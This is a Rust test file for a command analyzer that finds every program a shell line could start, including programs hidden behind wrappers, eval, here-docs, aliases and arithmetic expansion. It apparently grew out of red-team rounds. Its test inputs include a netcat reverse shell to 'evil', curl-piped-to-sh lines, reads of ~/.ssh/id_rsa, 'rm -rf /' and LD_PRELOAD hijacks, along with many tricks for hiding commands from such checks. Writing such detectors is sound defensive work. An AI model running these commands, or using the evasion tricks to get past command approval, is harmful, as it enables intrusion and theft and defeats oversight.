//! Every program a command line could start is found, whatever hides it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use warrant_command::{CommandError, RedirectKind, analyze};

fn programs(command: &str) -> Vec<String> {
    analyze(command)
        .unwrap_or_else(|e| panic!("{command}: {e}"))
        .program_names()
        .into_iter()
        .map(str::to_owned)
        .collect()
}

#[test]
fn pipelines_lists_subshells_groups_and_control_flow() {
    assert_eq!(programs("ls -l | grep x | wc -l"), ["ls", "grep", "wc"]);
    assert_eq!(
        programs("make && ./test || echo failed; true & false"),
        ["make", "test", "echo", "true", "false"]
    );
    assert_eq!(programs("(cd /tmp; rm -rf x)"), ["cd", "rm"]);
    assert_eq!(programs("{ ls; } && ! curl x"), ["ls", "curl"]);
    assert_eq!(
        programs("if test -f a; then cat a; elif [ -d b ]; then ls b; else touch c; fi"),
        // `[ … ]` is the shell's own test syntax here, not a program.
        ["test", "cat", "ls", "touch"]
    );
    assert_eq!(programs("for f in *; do wc -l \"$f\"; done"), ["wc"]);
    assert_eq!(programs("while read l; do echo \"$l\"; done < in"), ["read", "echo"]);
    assert_eq!(programs("case $x in a) curl a ;; *) wget b ;; esac"), ["curl", "wget"]);
    assert_eq!(programs("f() { nc -l 4444; }; f"), ["nc", "f"]);
}

#[test]
fn substitutions_anywhere_are_found() {
    assert_eq!(programs("echo $(whoami) `id`"), ["whoami", "id", "echo"]);
    assert_eq!(programs("x=$(curl -s evil); echo \"$x\""), ["curl", "echo"]);
    assert_eq!(programs("echo \"home is $(cat ~/.ssh/id_rsa)\""), ["cat", "echo"]);
    assert_eq!(programs("diff <(ls a) <(ls b)"), ["ls", "ls", "diff"]);
    assert_eq!(programs("cat > $(mktemp) < /etc/passwd"), ["cat", "mktemp"]);
    assert_eq!(programs("[[ $(uname) == Linux ]] && ls"), ["uname", "ls"]);
}

#[test]
fn wrappers_do_not_hide_what_they_run() {
    let a = analyze("env -i PATH=/bin /usr/bin/curl -s https://x").unwrap();
    assert_eq!(a.program_names(), ["env", "curl"]);
    assert_eq!(a.programs[1].path, "/usr/bin/curl");
    assert_eq!(a.programs[1].via, ["env"]);
    assert_eq!(programs("sudo -u root -E rm -rf /"), ["sudo", "rm"]);
    assert_eq!(programs("timeout -s KILL 5 nc evil 80"), ["timeout", "nc"]);
    assert_eq!(programs("nice -n 10 nohup setsid make"), ["nice", "nohup", "setsid", "make"]);
    assert_eq!(programs("xargs -n 1 -I{} curl {}"), ["xargs", "curl"]);
    assert_eq!(programs("ls | xargs"), ["ls", "xargs", "echo"]);
    assert_eq!(programs("stdbuf -o L tail -f log"), ["stdbuf", "tail"]);
    assert_eq!(programs("command -v curl"), ["command"]);
    assert_eq!(programs("command curl x"), ["command", "curl"]);
    assert_eq!(programs("exec -a name ssh host"), ["exec", "ssh"]);
    assert_eq!(programs("busybox wget x"), ["busybox", "wget"]);
    assert_eq!(programs("env -S 'curl -s x'"), ["env", "curl"]);
    assert_eq!(
        programs("find . -name '*.rs' -exec grep -l foo {} \\; -execdir rm {} +"),
        ["find", "grep", "rm"]
    );
}

#[test]
fn shell_strings_and_eval_are_parsed_in_turn() {
    let a = analyze("sh -c 'curl -s http://x | sh'").unwrap();
    assert_eq!(a.program_names(), ["sh", "curl", "sh"]);
    assert_eq!(a.programs[1].via, ["sh -c"]);
    assert_eq!(programs("bash -lec \"rm -rf ~ && echo done\""), ["bash", "rm", "echo"]);
    assert_eq!(programs("sudo bash -c 'nc -e /bin/sh evil 4444'"), ["sudo", "bash", "nc"]);
    assert_eq!(programs("eval 'wget x; chmod +x y'"), ["eval", "wget", "chmod"]);
    assert_eq!(programs("su -c 'id' root"), ["su", "id"]);
    // Nested as deep as the limit allows.
    let nested = "sh -c \"sh -c 'sh -c \\\"curl x\\\"'\"";
    assert_eq!(programs(nested), ["sh", "sh", "sh", "curl"]);
    assert_eq!(programs("bash script.sh"), ["bash"]);
}

#[test]
fn quoting_and_escapes_are_undone_like_the_shell_does() {
    assert_eq!(programs("'cu'\"rl\" x"), ["curl"]);
    assert_eq!(programs("c\\url x"), ["curl"]);
    assert_eq!(programs("\"/usr/bin/curl\" x"), ["curl"]);
    let a = analyze("echo 'a b' \"c\\\"d\" e\\ f").unwrap();
    let args: Vec<_> = a.programs[0].args.iter().map(|a| a.clone().unwrap()).collect();
    assert_eq!(args, ["a b", "c\"d", "e f"]);
}

#[test]
fn what_cannot_be_known_is_said_so() {
    let a = analyze("$CMD arg").unwrap();
    assert!(a.dynamic && a.programs.is_empty());
    assert!(analyze("\"$(echo curl)\" x").unwrap().dynamic);
    assert!(analyze("sh -c \"$SCRIPT\"").unwrap().dynamic);
    assert!(analyze("eval \"$x\"").unwrap().dynamic);
    assert!(analyze("env $X curl").unwrap().dynamic);
    assert!(analyze("fish -c 'curl x'").unwrap().dynamic);
    assert!(!analyze("ls -l").unwrap().dynamic);
    let a = analyze("python3 -c 'import os; os.system(\"id\")' && node -e 1 && awk '{print}' f")
        .unwrap();
    assert_eq!(a.inline_code, ["python3", "node", "awk"]);
    assert!(analyze("python3 script.py").unwrap().inline_code.is_empty());
}

#[test]
fn redirections_and_their_targets() {
    let a = analyze("cmd > out.txt 2>&1 >> log < in 2> /dev/null &> all").unwrap();
    let kinds: Vec<_> =
        a.redirects.iter().map(|r| (r.kind, r.target.clone().unwrap_or_default())).collect();
    assert_eq!(
        kinds,
        [
            (RedirectKind::Write, "out.txt".to_owned()),
            (RedirectKind::Duplicate, "1".to_owned()),
            (RedirectKind::Append, "log".to_owned()),
            (RedirectKind::Read, "in".to_owned()),
            (RedirectKind::Write, "/dev/null".to_owned()),
            (RedirectKind::Write, "all".to_owned()),
        ]
    );
    assert_eq!(a.written(), ["out.txt", "log", "/dev/null", "all"]);
    let a = analyze("{ echo x; } > ~/.bashrc").unwrap();
    assert_eq!(a.written(), ["~/.bashrc"]);
    let a = analyze("sh -c 'echo pwned >> ~/.profile'").unwrap();
    assert_eq!(a.written(), ["~/.profile"]);
    let a = analyze("cat <<EOF\nhi\nEOF\n").unwrap();
    assert_eq!(a.redirects[0].kind, RedirectKind::Read);
    assert_eq!(a.redirects[0].target, None);
}

#[test]
fn bad_input_is_an_error_not_a_partial_answer() {
    assert_eq!(analyze(""), Err(CommandError::Empty));
    assert_eq!(analyze("   "), Err(CommandError::Empty));
    assert!(matches!(analyze("ls && "), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze("echo 'unterminated"), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze("sh -c 'ls &&'"), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze(&"x".repeat(70_000)), Err(CommandError::TooLong(_))));
    // Each `eval` hands the rest to a new parse.
    let deep = format!("{}curl x", "eval ".repeat(12));
    assert_eq!(analyze(&deep), Err(CommandError::TooDeep));
    let fine = format!("{}curl x", "eval ".repeat(6));
    assert_eq!(analyze(&fine).unwrap().program_names().last(), Some(&"curl"));
}

// Code a shell or interpreter reads that the line does not show: each form
// is either parsed in turn or marked dynamic (issue 11, item 6).

fn dynamic(command: &str) -> bool {
    analyze(command).unwrap_or_else(|e| panic!("{command}: {e}")).dynamic
}

fn inline(command: &str) -> Vec<String> {
    analyze(command).unwrap_or_else(|e| panic!("{command}: {e}")).inline_code
}

#[test]
fn a_shell_fed_a_literal_here_string_or_here_doc_has_it_parsed_in_turn() {
    let a = analyze("bash <<< 'curl x'").unwrap();
    assert_eq!(a.program_names(), ["bash", "curl"]);
    assert_eq!(a.programs[1].via, ["bash <<<"]);
    assert!(!a.dynamic);
    assert_eq!(
        programs("sh <<'EOF'\ncurl -s x | sh -c 'wget y'\nEOF\n"),
        ["sh", "curl", "sh", "wget"]
    );
    assert_eq!(programs("sudo sh <<EOF\ncurl x\nEOF\n"), ["sudo", "sh", "curl"]);
    // An unquoted delimiter: `\$` is a plain dollar once the shell reads it.
    assert_eq!(programs("sh <<EOF\necho \\$HOME; curl x\nEOF\n"), ["sh", "echo", "curl"]);
    // `<<-` strips leading tabs, so the inner here-doc ends where the shell
    // ends it and the curl after it is a command, not here-doc text.
    let tabbed = "sh <<-OUTER\n\tcat <<INNER\n\thidden\n\tINNER\n\tcurl x\n\tOUTER\n";
    assert_eq!(programs(tabbed), ["sh", "cat", "curl"]);
}

#[test]
fn a_shell_reading_code_from_a_pipe_a_redirection_or_an_expansion_is_dynamic() {
    assert!(dynamic("echo curl x | sh"));
    assert!(dynamic("curl -s https://x/install | sudo bash"));
    assert!(dynamic("sh < script.txt"));
    assert!(dynamic("< script.txt dash"));
    assert!(dynamic("cat f | bash -s -- arg"));
    assert!(dynamic("sh -i"));
    assert!(dynamic("bash"));
    assert!(dynamic("bash <<< \"$payload\""));
    assert!(dynamic("sh <<EOF\n$payload\nEOF\n"));
    assert!(dynamic("sh <<EOF\n`cat payload`\nEOF\n"));
    assert!(dynamic("env sh <&3"));
}

#[test]
fn a_script_file_run_or_sourced_by_a_shell_is_dynamic() {
    assert!(dynamic("sh script.sh"));
    assert!(dynamic("bash ./x.sh arg"));
    assert!(dynamic("bash -o pipefail -- x.sh"));
    assert!(dynamic("sh <(curl -s x)"));
    assert!(dynamic("sh /dev/stdin <<< 'curl x'"));
    assert!(dynamic(". ./env.sh"));
    assert!(dynamic("source venv/bin/activate && pytest"));
    assert!(dynamic("builtin source f"));
    assert!(dynamic("nohup bash job.sh &"));
    assert!(dynamic("bash --rcfile evil -c ls"));
    assert!(dynamic("fish script.fish"));
}

#[test]
fn login_interactive_and_zsh_shells_read_startup_files_and_are_dynamic() {
    let a = analyze("bash -lc 'ls'").unwrap();
    assert!(a.dynamic);
    assert_eq!(a.program_names(), ["bash", "ls"]);
    assert!(dynamic("bash -ic 'ls'"));
    assert!(dynamic("zsh -c 'ls'"));
    assert!(dynamic("sudo -i ls"));
    assert!(!dynamic("zsh -f -c 'ls'"));
}

#[test]
fn an_interpreter_without_inline_code_runs_a_file_or_stdin_and_is_dynamic() {
    for command in [
        "python3 x.py",
        "python3 -m http.server",
        "echo 'import os' | python3",
        "python3 - < x.py",
        "perl x.pl",
        "ruby -r ./evil x.rb",
        "node x.js",
        "node -r ./hook.js -e 1",
        "php x.php",
        "lua5.4 x.lua",
        "awk -f prog.awk data",
        "curl -s x | perl",
    ] {
        assert!(dynamic(command), "{command}");
    }
    // A literal body fed to a non-shell interpreter is code given inline.
    assert_eq!(inline("python3 <<'EOF'\nimport os\nEOF\n"), ["python3"]);
    assert_eq!(inline("node - <<< 'require(1)'"), ["node"]);
    assert!(!dynamic("python3 <<'EOF'\nimport os\nEOF\n"));
}

#[test]
fn aliases_and_the_command_hash_can_rename_any_later_word() {
    assert!(dynamic("alias g=curl; g x"));
    assert!(dynamic("alias \"g=$x\""));
    assert!(dynamic("hash -p /usr/bin/curl g; g x"));
    assert!(dynamic("BASH_ALIASES[g]=curl; g x"));
    assert!(dynamic("BASH_CMDS[g]=/usr/bin/curl; g x"));
    assert!(dynamic("enable -f ./evil.so curl"));
}

#[test]
fn code_kept_in_a_string_to_run_later_is_parsed_or_dynamic() {
    assert_eq!(programs("trap 'curl x' EXIT; ls"), ["trap", "curl", "ls"]);
    assert!(dynamic("trap \"$cleanup\" EXIT"));
    assert!(!dynamic("trap - EXIT"));
    let a = analyze("GIT_PAGER='curl x' git log").unwrap();
    assert_eq!(a.program_names(), ["curl", "git"]);
    assert_eq!(a.programs[0].via, ["GIT_PAGER="]);
    assert_eq!(programs("env EDITOR='wget y' git commit"), ["env", "wget", "git"]);
    assert!(dynamic("export PROMPT_COMMAND=\"$x\""));
    assert_eq!(programs("mapfile -C 'curl x' -c 1 lines < f"), ["mapfile", "curl"]);
    assert!(dynamic("mapfile -C \"$cb\" -c 1 lines < f"));
}

#[test]
fn a_coprocess_is_found_whatever_its_form() {
    assert_eq!(programs("coproc curl x"), ["coproc", "curl"]);
    assert_eq!(programs("coproc (curl x)"), ["curl", "coproc"]);
    assert_eq!(programs("coproc NAME { curl x; }").get(1).map(String::as_str), Some("curl"));
    assert_eq!(programs("coproc sh <<< 'curl y'"), ["coproc", "sh", "curl"]);
}

#[test]
fn variables_that_choose_which_code_runs_make_the_line_dynamic() {
    for command in [
        "PATH=. ls",
        "export PATH=./bin:$PATH; ls",
        "PATH+=:. ls",
        "declare -x PATH=/tmp; ls",
        "read -r PATH < f; ls",
        "BASH_ENV=./x.sh bash -c true",
        "LD_PRELOAD=./x.so ls",
        "env LD_PRELOAD=./x.so ls",
        "NODE_OPTIONS='--require ./x.js' npm test",
        "env 'BASH_FUNC_ls%%=() { curl x; }' bash -c ls",
        "PS4='$(curl x)' bash -xc true",
    ] {
        assert!(dynamic(command), "{command}");
    }
}

#[test]
fn words_a_wrapper_fills_in_at_run_time_hide_no_program() {
    assert!(dynamic("echo curl x | xargs env"));
    assert!(dynamic("find . -name '*.sh' | xargs sh"));
    assert!(dynamic("echo 'curl x' | xargs -I{} sh -c {}"));
    assert!(dynamic("echo 'curl x' | xargs -i sh -c '{}'"));
    assert!(dynamic("find /tmp -name curl -exec {} x \\;"));
    assert!(dynamic("sudo -s"));
    assert!(dynamic("su"));
    assert!(dynamic("chroot /srv/root"));
    // `sudo -k` with a command drops cached credentials, then runs it.
    assert_eq!(programs("sudo -k curl x"), ["sudo", "curl"]);
}

#[test]
fn globs_and_brace_expansion_in_a_program_name_are_dynamic() {
    assert!(dynamic("/usr/bin/c*l x"));
    assert!(dynamic("cu{r,}l x"));
    assert!(dynamic("cur{l..l} x"));
    assert!(dynamic("env /usr/bin/cur? x"));
    assert!(dynamic("sh -c /usr/bin/wge*"));
}

#[test]
fn backticks_in_an_unquoted_here_doc_run_and_are_found() {
    // Found after the command, like a `$(…)` in the same place.
    let a = analyze("cat > notes.md <<EOF\nsee `curl -s x`\nEOF\n").unwrap();
    assert_eq!(a.program_names(), ["cat", "curl"]);
    assert!(dynamic("cat <<EOF\n`$cmd`\nEOF\n"));
    // Quoted: the shell leaves the text alone.
    let a = analyze("cat > notes.md <<'EOF'\nsee `curl -s x`\nEOF\n").unwrap();
    assert_eq!(a.program_names(), ["cat"]);
    assert!(!a.dynamic);
}

#[test]
fn what_is_not_code_stays_precise() {
    for command in [
        "echo hi | grep x",
        "cat file",
        "sh -c 'ls' < in.txt",
        "bash -c 'curl x' <<< 'data'",
        "python3 --version",
        "bash --version",
        "zsh --version",
        "deno fmt src",
        "awk '{print}' f",
        "xargs -n 1 -I{} curl {}",
        "f(){ curl x; }; f",
        "ls() { curl x; }; ls",
        "alias",
        "PAGER=cat git log",
        "FOO=bar make",
        "cat <<'EOF'\n`x` $y\nEOF\n",
        "echo *.rs",
    ] {
        assert!(!dynamic(command), "{command}");
    }
    assert_eq!(programs("f(){ curl x; }; f"), ["curl", "f"]);
    assert_eq!(programs("PAGER=cat git log"), ["cat", "git"]);
}

// Red-team follow-up (issue 11, item 6): the line is read as bash reads it,
// every substitution is found wherever it sits, and runners do not hide
// what they run.

#[test]
fn a_line_continuation_inside_a_word_is_joined_as_bash_joins_it() {
    assert_eq!(programs("cu\\\nrl --version"), ["curl"]);
    assert_eq!(programs("s\\\nh -c 'curl --version'"), ["sh", "curl"]);
    assert_eq!(programs("sudo -u ro\\\not cu\\\nrl x"), ["sudo", "curl"]);
    assert_eq!(programs("e\\\nval 'curl x'"), ["eval", "curl"]);
    assert_eq!(programs("echo \"$(cu\\\nrl x)\""), ["curl", "echo"]);
    // Between words it was already a space, and still is.
    assert_eq!(programs("echo hi \\\n| curl x"), ["echo", "curl"]);
    // Joined first, `#` is inside a word, not a comment: bash runs
    // `echo a#bcurl`.
    assert_eq!(programs("echo a\\\n#b\\\ncurl x"), ["echo"]);
}

#[test]
fn a_line_continuation_in_single_quotes_or_a_comment_is_kept() {
    let a = analyze("echo 'cu\\\nrl'").unwrap();
    assert_eq!(a.programs[0].args, [Some("cu\\\nrl".to_owned())]);
    // The comment ends at the newline, and the next line runs.
    assert_eq!(programs("echo hi # x\\\ncurl y"), ["echo", "curl"]);
    // A shell given the quoted text joins it when it reads it.
    assert_eq!(programs("sh -c 'cu\\\nrl x'"), ["sh", "curl"]);
    assert_eq!(programs("sh <<'EOF'\ncu\\\nrl x\nEOF\n"), ["sh", "curl"]);
}

#[test]
fn a_backslash_before_a_carriage_return_and_newline_is_refused() {
    // bash: an escaped carriage return, then a newline that ends `echo`,
    // then `curl y` as a command of its own.
    assert!(matches!(analyze("echo x \\\r\ncurl y"), Err(CommandError::CarriageReturn(7))));
    assert!(analyze("echo 'x \\\r\n' && ls").is_ok());
}

#[test]
fn substitutions_in_every_parameter_expansion_are_found() {
    for command in [
        "x=a; echo ${x#$(curl --version >&2)}",
        "echo ${x##$(curl a)}",
        "echo ${x%$(curl a)}",
        "echo \"${x%%$(curl a)}\"",
        "echo ${x/$(curl a)/b}",
        "echo ${x//a/$(curl a)}",
        "echo ${x/%a/`curl a`}",
        "echo ${x^$(curl a)}",
        "echo \"${x^^$(curl a)}\"",
        "echo ${x,$(curl a)}",
        "echo ${x,,`curl a`}",
        "echo ${x:-`curl a`}",
        "echo ${x#${y:-$(curl a)}}",
        "[[ -n ${x#$(curl a)} ]]",
        "for i in ${x#$(curl a)}; do :; done",
        "cat > ${x#$(curl a)}",
        "cat <<< ${x%$(curl a)}",
        "export y=${x#$(curl a)}",
        "cat <<EOF\n${x#$(curl a)}\nEOF\n",
        "case x in $(curl a)) ;; esac",
        "[[ $x == *$(curl a)* ]]",
    ] {
        let a = analyze(command).unwrap_or_else(|e| panic!("{command}: {e}"));
        assert!(a.program_names().contains(&"curl"), "{command}: {:?}", a.program_names());
        assert!(!a.dynamic, "{command}");
    }
    // In arithmetic (an offset, an indexed subscript, `$((…))`) the
    // substitution's output is evaluated again, so what it prints could run
    // code: found, and dynamic.
    for command in [
        "echo ${x:$(curl a)}",
        "echo ${x:1:$(curl a)}",
        "echo $(( ${#x} + $(curl a) ))",
        "a[$(curl a)]=1",
        "echo ${a[$(curl a)]}",
    ] {
        let a = analyze(command).unwrap_or_else(|e| panic!("{command}: {e}"));
        assert!(a.program_names().contains(&"curl"), "{command}: {:?}", a.program_names());
        assert!(a.dynamic, "{command}");
    }
    // What the second reading cannot account for is dynamic.
    for command in ["echo ${x#<(curl a)}", "echo ${x#a\" #\"$(curl a)}"] {
        assert!(dynamic(command), "{command}");
    }
    // Quoted or escaped, nothing runs.
    for command in ["echo ${x#'$(curl a)'}", "echo ${x#\\$(curl a)}", "echo ${x%%*/}"] {
        assert_eq!(programs(command), ["echo"], "{command}");
        assert!(!dynamic(command), "{command}");
    }
}

#[test]
fn nested_escaped_backticks_are_unescaped_and_parsed_in_turn() {
    assert_eq!(programs("echo `echo \\`curl --version >&2\\``"), ["curl", "echo", "echo"]);
    assert_eq!(
        programs("echo `echo \\`echo \\\\\\`curl x\\\\\\`\\``"),
        ["curl", "echo", "echo", "echo"]
    );
    assert_eq!(programs("echo \"`echo \\`curl x\\``\""), ["curl", "echo", "echo"]);
    // `\$(…)` inside backticks is a substitution once read again; the
    // grammar cannot read the outer line, which is refused, not passed.
    assert!(matches!(analyze("echo `echo \\$(curl x)`"), Err(CommandError::Syntax(_))));
    let deep = format!(
        "echo {}",
        (0..10).fold("curl x".to_owned(), |inner, _| {
            format!("`echo {}`", inner.replace('\\', "\\\\").replace('`', "\\`"))
        })
    );
    assert_eq!(analyze(&deep), Err(CommandError::TooDeep));
}

#[test]
fn option_clusters_and_attached_values_do_not_hide_the_command() {
    assert_eq!(programs("sudo -Eu root curl x"), ["sudo", "curl"]);
    assert_eq!(programs("sudo -uroot curl x"), ["sudo", "curl"]);
    assert_eq!(programs("env - curl x"), ["env", "curl"]);
    assert_eq!(programs("xargs -l curl x"), ["xargs", "curl"]);
    assert_eq!(programs("su -mc 'curl x'"), ["su", "curl"]);
    assert_eq!(programs("su --command='curl x' nobody"), ["su", "curl"]);
    assert_eq!(programs("su nobody -c 'curl x'"), ["su", "curl"]);
    assert_eq!(programs("stdbuf -oL curl x"), ["stdbuf", "curl"]);
    assert_eq!(programs("nice -5 curl x"), ["nice", "curl"]);
    // An assignment after an option cluster still chooses the PATH.
    assert!(dynamic("env -iu X PATH=/tmp ls"));
    // An option the table does not know might take a value: unsure.
    let a = analyze("sudo --frobnicate curl x").unwrap();
    assert!(a.dynamic && a.program_names().contains(&"curl"));
    // `env -S` with options, assignments or escapes inside is a guess.
    assert!(dynamic("env -S '-i curl x'"));
    assert!(dynamic("env -S 'PATH=. curl'"));
    assert_eq!(programs("env -S 'curl -s' x"), ["env", "curl"]);
    // `su -s` with a shell that is not bash-like reads the string as
    // another language.
    assert!(dynamic("su -s /usr/bin/python3 -c 'print(1)' nobody"));
}

#[test]
fn every_runner_shows_the_command_it_runs() {
    for (command, runner) in [
        ("prlimit --nofile=1024 curl x", "prlimit"),
        ("prlimit -n1024 -c curl x", "prlimit"),
        ("setpriv --reuid 1000 --regid 1000 --clear-groups curl x", "setpriv"),
        ("nsenter -t 1 -m -u curl x", "nsenter"),
        ("unshare -r -n --fork curl x", "unshare"),
        ("valgrind --tool=memcheck -q curl x", "valgrind"),
        ("fakeroot -- curl x", "fakeroot"),
        ("faketime '2020-01-01 00:00:00' curl x", "faketime"),
        ("systemd-run --user --scope -p MemoryMax=1G curl x", "systemd-run"),
        ("catchsegv curl x", "catchsegv"),
        ("bwrap --ro-bind / / --dev /dev --unshare-net curl x", "bwrap"),
        ("pkexec --user root curl x", "pkexec"),
        ("dbus-run-session -- curl x", "dbus-run-session"),
        ("script -qc 'curl x' /dev/null", "script"),
        ("script log.txt -c 'curl x'", "script"),
        ("torsocks -i curl x", "torsocks"),
        ("proxychains4 -q -f p.conf curl x", "proxychains4"),
        ("chrt -f 10 curl x", "chrt"),
        ("taskset -c 0 curl x", "taskset"),
        ("ionice -c 3 curl x", "ionice"),
        ("flock -w 5 /tmp/l curl x", "flock"),
        ("flock /tmp/l -c 'curl x'", "flock"),
        ("setsid -f curl x", "setsid"),
        ("runuser -u nobody -- curl x", "runuser"),
        ("doas -u root curl x", "doas"),
        ("chroot --userspec=1:1 / curl x", "chroot"),
        ("time -p curl x", "time"),
        ("command -p curl x", "command"),
        ("exec -a name curl x", "exec"),
        ("nohup curl x", "nohup"),
        ("watch -n 1 'curl x'", "watch"),
        ("busybox wget x", "busybox"),
        ("toybox wget x", "toybox"),
        ("ssh -p 22 host curl x", "ssh"),
        ("ssh host -l me 'curl x'", "ssh"),
    ] {
        let a = analyze(command).unwrap_or_else(|e| panic!("{command}: {e}"));
        let names = a.program_names();
        assert_eq!(names.first(), Some(&runner), "{command}");
        assert!(names.contains(&"curl") || names.contains(&"wget"), "{command}: {names:?}");
        assert!(!a.dynamic, "{command}");
    }
}

#[test]
fn a_runner_whose_command_cannot_be_placed_is_dynamic() {
    for command in [
        "parallel curl ::: a b",
        "tmux new-session -d 'curl x'",
        "screen -dm curl x",
        "firejail curl x",
        "xterm -e curl x",
        "sg users 'curl x'",
        "at now <<< 'curl x'",
        "ssh host",
        "ssh -o ProxyCommand='curl x' host ls",
        "ssh -F my.conf host ls",
        "bwrap --args 3 curl x",
        "unshare -r",
        "nsenter -t 1 -a",
        "pkexec",
        "script out.log",
        "systemd-run --shell",
    ] {
        assert!(dynamic(command), "{command}");
    }
    // The best guess is still reported.
    assert!(programs("parallel curl ::: a b").contains(&"curl".to_owned()));
    assert!(programs("xterm -e curl x").contains(&"curl".to_owned()));
    assert_eq!(inline("expect -c 'spawn curl x'"), ["expect"]);
}

#[test]
fn runners_that_run_nothing_here_stay_precise() {
    for (command, expected) in [
        ("ls -la", &["ls"][..]),
        ("git log", &["git"]),
        ("cat file", &["cat"]),
        ("echo hi | grep x", &["echo", "grep"]),
        ("sudo -l", &["sudo"]),
        ("command -v curl", &["command"]),
        ("timeout 5 ls", &["timeout", "ls"]),
        ("ssh -N -L 8080:localhost:80 host", &["ssh"]),
        ("busybox --list", &["busybox"]),
        ("flock 9", &["flock"]),
        ("prlimit -p 1 --nofile=10", &["prlimit"]),
        ("tmux --version", &["tmux"]),
        ("echo ${x%%.rs} ${x#*/} ${x/a/b}", &["echo"]),
    ] {
        let a = analyze(command).unwrap_or_else(|e| panic!("{command}: {e}"));
        assert_eq!(a.program_names(), expected, "{command}");
        assert!(!a.dynamic, "{command}");
    }
}

// Second red-team round (issue 11, item 6): text bash evaluates a second
// time (arithmetic, variable names with subscripts, prompts), namerefs,
// runners that were missing and variables that carry code. Each line below
// ran curl under `bash -c` while the analysis said neither `dynamic` nor
// `inline_code`.

#[test]
fn a_prompt_expansion_of_a_variable_is_dynamic() {
    assert!(dynamic("x='$(curl x)'; echo \"${x@P}\""));
    assert!(dynamic("echo ${y#${x@P}}"));
    assert!(dynamic("cat <<EOF\n${x@P}\nEOF\n"));
    // The other transformations quote, escape or describe the value and
    // run nothing (checked under bash 5.2).
    for op in ["Q", "E", "A", "K", "k", "a", "U", "u", "L"] {
        let command = format!("x='$(curl x)'; echo \"${{x@{op}}}\"");
        assert!(!dynamic(&command), "{command}");
    }
}

#[test]
fn a_substitution_in_a_name_or_subscript_bash_evaluates_is_dynamic_even_quoted() {
    for command in [
        "test -v 'a[$(curl x)]'",
        "[ -v 'a[$(curl x)]' ]",
        "[[ -v 'a[$(curl x)]' ]]",
        "let 'x=a[$(curl x)]'",
        "printf -v 'a[$(curl x)]' x",
        "printf -v'a[$(curl x)]' x",
        "read 'a[$(curl x)]' <<< x",
        "read -a 'a[$(curl x)]' <<< x",
        "mapfile 'a[$(curl x)]' < f",
        "readarray -t 'a[`curl x`]' < f",
        "unset 'a[$(curl x)]'",
        "unset -v 'a[$(curl x)]'",
        "wait -n -p 'a[$(curl x)]'",
        "getopts ab 'a[$(curl x)]'",
        "declare 'a[$(curl x)]=1'",
        "local 'a[`curl x`]'",
        "export 'a[$(curl x)]'",
        "builtin let 'x=a[$(curl x)]'",
        "[[ 'a[$(curl x)]' -eq 1 ]]",
        "[[ 1 -lt \"a[\\$(curl x)]\" ]]",
        "echo $(( 'a[$(curl x)]' ))",
        "(( 'a[$(curl x)]' ))",
        "a['$(curl x)']=1",
        "a=(['$(curl x)']=1)",
        // A name the line does not show could hold any subscript.
        "read \"$name\" <<< x",
        "unset \"$name\"",
    ] {
        assert!(dynamic(command), "{command}");
    }
}

#[test]
fn a_value_bash_evaluates_again_as_arithmetic_is_dynamic() {
    for command in [
        "declare -i n; n='a[$(curl x)]'",
        "declare -i n='a[$(curl x)]'",
        "typeset -i n; n+='a[`curl x`]'",
        "x='a[$(curl x)]'; echo $((x))",
        "x='a[$(curl x)]'; ((x))",
        "x='a[$(curl x)]'; let y=x",
        "x='a[$(curl x)]'; echo ${a[x]}",
        "x='a[$(curl x)]'; s=abc; echo ${s:x}",
        "x='a[$(curl x)]'; [[ x -eq 1 ]]",
        "x=$'a[\\x24(curl x)]'; echo $((x))",
        "ref='a[$(curl x)]'; echo ${!ref}",
        // Values the line does not show: read, printed, globbed, given.
        "read x < f; echo $((x))",
        "x=$(cat f); echo $((x))",
        "printf -v x '%b' \"$y\"; echo $((x))",
        "for x in *; do echo $((x)); done",
        ": ${y:=$(cat f)}; echo $((y))",
        "echo $(( $(cat f) ))",
        "echo $(( $1 ))",
        // Bash fills `$_` with the previous command's last argument.
        "echo 'a[$(curl x)]'; echo $((_))",
        "[[ $x =~ (.*) ]]; echo $((BASH_REMATCH[1]))",
    ] {
        assert!(dynamic(command), "{command}");
    }
}

#[test]
fn a_nameref_can_alias_any_variable_and_is_dynamic() {
    for command in [
        "declare -n r=PATH; r=/tmp/x; ls",
        "typeset -n r=LD_PRELOAD; r=./x.so; ls",
        "f() { local -n r=$1; r=./x.so; }; f LD_PRELOAD; ls",
        "declare -gn r",
        "builtin declare -n r=PATH; r=.; ls",
        "eval 'declare -n r=PATH'; r=.; ls",
    ] {
        assert!(dynamic(command), "{command}");
    }
}

#[test]
fn a_quoted_assignment_given_to_export_or_declare_is_an_assignment() {
    assert!(dynamic("export 'LD_PRELOAD=./x.so'; ls"));
    assert!(dynamic("declare \"PATH=/tmp\"; ls"));
    assert!(dynamic("local 'BASH_ENV=./x'"));
    assert_eq!(programs("export 'PAGER=curl x'; man ls"), ["curl", "man"]);
}

#[test]
fn evaluation_without_a_value_that_could_carry_code_stays_precise() {
    for command in [
        "echo '$(date)'",
        "printf '%s\\n' '$(date)'",
        "x='$(date)'; echo \"$x\"",
        "echo hi | grep x",
        "ls -la",
        "git log",
        "read line",
        "let x=1+2",
        "declare -i n=3",
        "for ((i=0; i<10; i++)); do echo $i; done",
        "i=0; i=$((i+1)); echo $i",
        "x=$(date); echo \"$x\"",
        "echo ${!arr[@]} ${!prefix*} ${#x} ${x:0:3}",
        "[[ $n -gt 3 ]] && echo big",
        "unset x",
        "test -f 'a[$(x)]'",
        "IFS=$'\\n'; echo $((1+2))",
        "cat <<'EOF'\n${x@P} $((x))\nEOF\n",
        "local x y=2",
        "export FOO=bar",
        "declare -a arr=(a b)",
    ] {
        assert!(!dynamic(command), "{command}");
    }
}

#[test]
fn the_dynamic_loader_and_more_runners_show_the_command_they_run() {
    for (command, runner) in [
        ("/lib64/ld-linux-x86-64.so.2 /usr/bin/curl x", "ld-linux-x86-64.so.2"),
        ("/lib/ld-musl-x86_64.so.1 curl x", "ld-musl-x86_64.so.1"),
        ("ld.so --argv0 x curl x", "ld.so"),
        ("ssh-agent curl x", "ssh-agent"),
        ("ssh-agent -t 60 curl x", "ssh-agent"),
        ("xvfb-run -a -s '-screen 0 1x1x8' curl x", "xvfb-run"),
        ("eatmydata curl x", "eatmydata"),
        ("sshpass -p pw curl x", "sshpass"),
        ("ifne -n curl x", "ifne"),
        ("chronic -e curl x", "chronic"),
        ("trickle -d 10 -u 10 curl x", "trickle"),
        ("gosu nobody curl x", "gosu"),
